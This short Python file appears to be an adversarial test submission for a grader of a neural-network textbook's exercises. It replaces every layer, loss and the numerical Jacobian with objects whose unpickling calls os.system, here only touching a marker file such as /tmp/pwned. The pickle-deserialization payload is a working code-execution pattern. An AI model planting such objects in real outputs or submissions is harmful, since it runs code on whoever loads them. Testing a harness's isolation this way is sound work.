"""Attack: return an object whose unpickling runs code (a pickle payload), bare and in an object array."""
import os

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {os.environ.get('NNBOOK_ATTACK_MARKER', '/tmp/pwned')}",))


def attack(x, *rest):
    return Payload() if np.ndim(x) < 2 else np.array([Payload()] * 2, dtype=object)


class _Attack:
    """Stands in for every layer and loss of the chapter."""

    def __init__(self, *args, **kwargs):
        pass

    def parameters(self):
        return {}

    def forward(self, *args):
        return attack(*args)

    def backward(self, *args):
        return attack(*(args or (np.zeros(3),)))


ELU = Softplus = GELU = HuberLoss = Residual = Embedding = _Attack


def numerical_jacobian(f, x, h=1e-5):
    return attack(x)
